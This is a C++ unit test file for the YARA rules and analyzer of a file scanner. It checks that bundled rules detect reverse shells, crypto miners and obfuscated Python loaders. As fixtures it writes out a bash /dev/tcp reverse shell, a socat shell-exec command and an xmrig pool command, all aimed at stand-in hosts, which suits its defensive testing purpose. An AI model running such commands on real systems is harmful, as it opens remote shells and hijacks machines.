#include "scan/yara/yara_rules.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "core/dispatcher.hpp"
#include "core/report.hpp"
#include "core/scanner.hpp"
#include "scan/yara/yara_analyzer.hpp"

namespace hazmat::yara {
namespace {

using ::testing::HasSubstr;
using ::testing::SizeIs;

ByteSpan span_of(std::string_view text) {
    return {reinterpret_cast<const uint8_t*>(text.data()), text.size()};
}

std::shared_ptr<const YaraRules> bundled() {
    static auto rules =
        YaraRules::compile_directory(std::string(HAZMAT_SOURCE_DIR) + "/rules/yara");
    if (!rules)
        ADD_FAILURE() << rules.error().message;
    return rules ? *rules : nullptr;
}

TEST(YaraRules, MatchCarriesTheRuleMetadataAndOffset) {
    const auto rules = YaraRules::compile_text(R"(
rule marker {
  meta:
    description = "test marker"
    severity = "critical"
    reference = "docs/x"
  strings:
    $m = "hazmat-test"
  condition:
    $m
})");
    ASSERT_TRUE(rules.ok()) << rules.error().message;
    const auto matches = (*rules)->scan(span_of("....hazmat-test"));
    ASSERT_TRUE(matches.ok());
    ASSERT_THAT(*matches, SizeIs(1));
    const auto& match = (*matches)[0];
    EXPECT_EQ(match.rule, "test:marker");
    EXPECT_EQ(match.description, "test marker");
    EXPECT_EQ(match.severity, Severity::critical);
    EXPECT_EQ(match.reference, "docs/x");
    EXPECT_EQ(match.offset, 4u);
    EXPECT_EQ(match.string_id, "$m");
}

TEST(YaraRules, CompileErrorNamesTheLine) {
    const auto rules = YaraRules::compile_text("rule broken {\n condition:\n  $missing\n}\n");
    ASSERT_FALSE(rules.ok());
    EXPECT_THAT(rules.error().message, HasSubstr("<text>:4: undefined string \"$missing\""));
}

TEST(YaraRules, EmptyDirectoryIsAnError) {
    const auto rules = YaraRules::compile_directory(std::string(HAZMAT_FIXTURES_DIR) + "/archive");
    ASSERT_FALSE(rules.ok());
    EXPECT_THAT(rules.error().message, HasSubstr("no .yar or .yara files"));
}

TEST(YaraRules, BundledRulesCatchReverseShellsMinersAndStealers) {
    const auto rules = bundled();
    ASSERT_NE(rules, nullptr);
    EXPECT_GE(rules->rule_count(), 10u);
    const auto names = [&](std::string_view text) {
        std::vector<std::string> found;
        const auto matches = rules->scan(span_of(text));
        for (const auto& match : *matches)
            found.push_back(match.rule);
        return found;
    };
    EXPECT_THAT(names("nohup bash -i >& /dev/tcp/192.0.2.10/4444 0>&1 &"),
                ::testing::ElementsAre("reverse_shells:reverse_shell_dev_tcp"));
    EXPECT_THAT(names("./xmrig -o stratum+tcp://pool.invalid:3333 --donate-level 1"),
                ::testing::ElementsAre("miners:cryptominer_pool_configuration"));
    EXPECT_THAT(names("exec(__import__('zlib').decompress(__import__('base64').b64decode(b)))"),
                ::testing::ElementsAre("obfuscators:python_import_decode_exec_one_liner"));
    EXPECT_THAT(names("import torch\nmodel = torch.nn.Linear(2, 2)\n"), SizeIs(0));
}

TEST(YaraAnalyzer, MatchesBecomeFindingsWithTheRuleSeverity) {
    std::vector<std::unique_ptr<Analyzer>> analyzers;
    analyzers.push_back(std::make_unique<YaraAnalyzer>(bundled(), nullptr));
    const Dispatcher dispatcher(std::move(analyzers));
    Report report;
    std::string content = "#!/bin/sh\nsocat tcp:192.0.2.1:9 exec:'/bin/sh'\n";
    scan_bytes(dispatcher, ScanLimits{}, bytes_from(std::move(content)), "run.sh", report);
    report.finish();
    ASSERT_THAT(report.findings(), SizeIs(1));
    const auto& finding = report.findings()[0];
    EXPECT_EQ(finding.rule_id, "HZ-CODE-100");
    EXPECT_EQ(finding.severity, Severity::high);
    EXPECT_EQ(finding.location.offset, 10u);
    EXPECT_THAT(finding.title, HasSubstr("reverse_shell_netcat_exec"));
}

TEST(YaraAnalyzer, ContainersAreMatchedThroughTheirMembers) {
    const YaraAnalyzer analyzer(bundled(), nullptr);
    Blob blob;
    blob.bytes = bytes_from(std::string("PK\x03\x04 bash -i >& /dev/tcp/x/1", 30));
    EXPECT_FALSE(analyzer.accepts(blob, Format::zip));
    EXPECT_TRUE(analyzer.accepts(blob, Format::unknown));
}

}  // namespace
}  // namespace hazmat::yara
